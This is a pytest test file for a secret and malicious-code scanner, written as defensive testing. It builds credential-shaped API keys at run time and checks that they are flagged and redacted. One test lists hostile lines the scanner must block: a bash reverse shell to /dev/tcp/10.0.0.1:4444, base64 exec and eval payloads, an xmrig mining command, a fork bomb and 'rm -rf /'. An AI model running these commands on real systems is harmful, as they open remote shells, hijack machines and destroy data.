from __future__ import annotations

import pytest

from vibecoder.domain.catalog.scanning import has_blocking, scan_text

# Assembled at run time so this test file itself does not look like a leak to other scanners.
LIVE = {
    "aws": "AKIA" + "Q3EGWXYZ7ABCDE2F",
    "stripe": "sk_" + "live_" + "51HqLyjWDarjtT1zdp7dcXaM9",
    "openai": "sk-proj-" + "a" * 4 + "Zx9" * 8 + "T3BlbkFJ" + "Qw7" * 8,
    "anthropic": "sk-ant-" + "api03-" + "Xy7_Pq2-Lm9" * 3,
    "github": "ghp_" + "Abc123Def456Ghi789Jkl012Mno345Pqr678",
}


@pytest.mark.parametrize("kind", sorted(LIVE))
def test_live_secrets_are_blocking(kind):
    findings = scan_text("config.py", f'KEY = "{LIVE[kind]}"\n')
    assert has_blocking(findings), kind
    assert LIVE[kind] not in findings[0].redacted_excerpt


def test_pem_block_is_blocking():
    pem = "-----BEGIN " + "RSA PRIVATE KEY-----\nMIIEow...\n"
    assert has_blocking(scan_text("id_rsa", pem))


@pytest.mark.parametrize(
    "line",
    [
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "exec(base64.b64decode(payload))",
        "eval(atob('ZG9jdW1lbnQ='))",
        "./xmrig -o stratum+tcp://pool:3333",
        ":(){ :|:& };:",
        "rm -rf / ",
    ],
)
def test_malicious_patterns_are_blocking(line):
    assert has_blocking(scan_text("run.sh", line + "\n"))


@pytest.mark.parametrize(
    "line",
    [
        'STRIPE_KEY = os.environ["STRIPE_SECRET_KEY"]',
        'api_key = "YOUR_API_KEY_HERE"',
        'OPENAI_API_KEY = "sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"',
        "password = getenv('DB_PASSWORD')",
        "token = request.headers.get('Authorization')",
    ],
)
def test_placeholders_and_env_lookups_are_not_blocking(line):
    assert not has_blocking(scan_text("settings.py", line + "\n"))


def test_stripe_test_key_is_only_a_warning():
    findings = scan_text("a.py", 'k = "sk_test_' + "4eC39HqLyjWDarjtT1zdp7dc" + '"\n')
    assert findings and not has_blocking(findings)


def test_realistic_clean_project_has_no_findings():
    code = """
import os, csv, sys

def dedupe(rows, key):
    seen = set()
    for row in rows:
        if row[key] not in seen:
            seen.add(row[key])
            yield row

if __name__ == "__main__":
    token = os.environ.get("API_TOKEN", "")
    reader = csv.DictReader(sys.stdin)
    for row in dedupe(reader, "email"):
        print(row)
"""
    assert scan_text("dedupe.py", code) == []
